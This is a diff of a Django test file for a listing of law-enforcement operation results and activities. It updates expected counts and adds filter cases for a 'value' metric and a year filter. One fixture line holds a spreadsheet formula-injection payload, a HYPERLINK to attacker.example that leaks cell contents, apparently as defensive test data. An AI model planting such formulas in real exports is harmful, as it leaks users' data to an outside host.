@@ -59,8 +59,10 @@ def test_operations_sorting(client, world):
 def test_results_list_shows_public_figures(client, world):
     response = client.get("/results/")
     assert response.status_code == 200
-    assert len(shown(response)) == 8
-    assert {result.operation__slug for result in shown(response)} == {"jad-see-2024", "jad-see-2023"}
+    # 8 about the published operations and the value of the published training, never the draft's.
+    assert len(shown(response)) == 9
+    assert {result.operation__slug for result in shown(response)} == {"jad-see-2024", "jad-see-2023", None}
+    assert {result.activity__slug for result in shown(response)} == {"firearms-detection-training", None}
     assert "Kosovo*" in response.content.decode()
 
 
@@ -79,6 +81,11 @@ def test_results_list_shows_public_figures(client, world):
         ("value_min=500&value_max=600", {"566 arrests"}),
         ("value_max=2", {'=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'}),
         ("q=migrant", {"300 migrant smuggling"}),
+        # What an activity was worth is a figure of the metric "value", found with the others.
+        ("metric=value", {"worth EUR 15 000"}),
+        ("metric=value&value_min=10000", {"worth EUR 15 000"}),
+        ("metric=value&value_max=100", set()),
+        ("year=2024&metric=value", {"worth EUR 15 000"}),
     ],
 )
 def test_results_filters(client, world, query, expected_quotes):
@@ -104,7 +111,7 @@ def test_results_per_page_choice_and_pages(client, world):
     add_results(world, 30)
     assert len(shown(client.get("/results/"))) == 25
     assert len(shown(client.get("/results/?per_page=10"))) == 10
-    assert len(shown(client.get("/results/?per_page=50"))) == 38
+    assert len(shown(client.get("/results/?per_page=50"))) == 39
     second = client.get("/results/?per_page=10&page=2&sort=value")
     assert [result.value for result in shown(second)] == sorted(
         result.value for result in shown(client.get("/results/?per_page=100&sort=value"))
@@ -155,8 +162,8 @@ def test_activities_list(client, world):
         ("start=2024-05-01", {"3d-printed-firearms"}),
         ("end=2024-04-01", {"firearms-detection-training"}),
         ("start=2024-03-11&end=2024-03-11", {"firearms-detection-training"}),
-        ("value_min=10000", {"firearms-detection-training"}),
-        ("value_max=100", set()),
+        ("year=2024", {"firearms-detection-training", "3d-printed-firearms"}),
+        ("year=2023", set()),
         ("q=3D-printed", {"3d-printed-firearms"}),
     ],
 )
@@ -208,5 +215,5 @@ def test_sources_sorting(client, world):
 def test_qualifier_choices_cover_the_model(client, world):
     response = client.get("/results/")
     assert {value for value, _ in response.context["filter"].form.fields["qualifier"].choices if value} == set(
-        Qualifier.values
+        Qualifier.objects.values_list("code", flat=True)
     )
